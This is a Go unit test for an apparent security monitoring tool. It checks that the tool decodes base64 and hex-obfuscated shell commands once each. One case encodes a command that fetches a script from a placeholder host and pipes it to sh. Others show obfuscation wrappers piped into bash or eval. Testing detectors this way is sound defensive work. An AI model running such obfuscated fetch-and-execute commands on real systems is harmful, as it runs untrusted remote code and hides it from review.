package rules

import (
	"testing"

	"github.com/vigil-sec/vigil/internal/event"
)

// TestDecodedOnce: payloads the shell parser decodes (pipelines, $(...))
// appear once in the facts, however many programs they feed.
func TestDecodedOnce(t *testing.T) {
	cases := []struct{ name, cmd, want string }{
		{"base64 pipe", "echo Y3VybCBodHRwczovL3guZXhhbXBsZS5jb20vYSB8IHNo | base64 -d | sh", "curl https://x.example.com/a | sh"},
		{"xxd pipe", "echo 6c73202d6c61 | xxd -r -p | bash", "ls -la"},
		{"substitution", `eval "$(echo bHMgLWxh | base64 -d)"`, "ls -la"},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			ev := &event.Event{Cwd: "/home/dev/projects/p", EventType: event.TypeCommand}
			ev.Action.Command = c.cmd
			f := buildFacts(ev, nil, nil)
			n := 0
			for _, d := range f.decoded {
				if d == c.want || d == c.want+"\n" {
					n++
				}
			}
			if n != 1 {
				t.Errorf("decoded = %q, want %q exactly once", f.decoded, c.want)
			}
		})
	}
}
